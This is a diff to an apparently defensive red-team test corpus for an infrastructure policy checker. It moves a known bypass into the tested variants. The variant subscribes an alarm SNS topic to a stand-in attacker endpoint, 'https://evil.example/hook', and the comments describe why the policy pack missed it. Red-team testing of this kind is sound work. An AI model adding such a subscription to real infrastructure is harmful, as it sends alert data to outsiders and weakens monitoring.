@@ -346,12 +346,7 @@ REDTEAM2: tuple[Variant, ...] = (
 
 VARIANTS = VARIANTS + REDTEAM2
 
-OPEN_BYPASSES: tuple[Variant, ...] = (
-    # The alert topic's subscriptions come from `agentfleet:alarmSubscriptions`, which the policy
-    # config does not carry (the pack cannot tell a reviewed subscription from another one).
-    v("alert-topic-subscribed-by-an-outside-endpoint", "closed-world",
-      '_aws.sns.TopicSubscription("x", topic=_n.alarm_topic_arn(_S), protocol="https", endpoint="https://evil.example/hook")'),
-)
+OPEN_BYPASSES: tuple[Variant, ...] = ()
 """Variants that still pass `check` (not run as tests; see the red-team report). They are kept
 here so the fix can flip them into VARIANTS."""
 
@@ -409,3 +404,8 @@ PARENTED_VARIANTS: tuple[Variant, ...] = (
 )
 """Variants that name the program's own objects as parents: they run appended to the real program
 (tests/redteam/test_redteam_corpus.py `test_parented_variant_fails_check`), not in the replay."""
+
+VARIANTS = VARIANTS + (
+    v("alert-topic-subscribed-by-an-outside-endpoint", "closed-world",
+      '_aws.sns.TopicSubscription("x", topic=_n.alarm_topic_arn(_S), protocol="https", endpoint="https://evil.example/hook")'),
+)
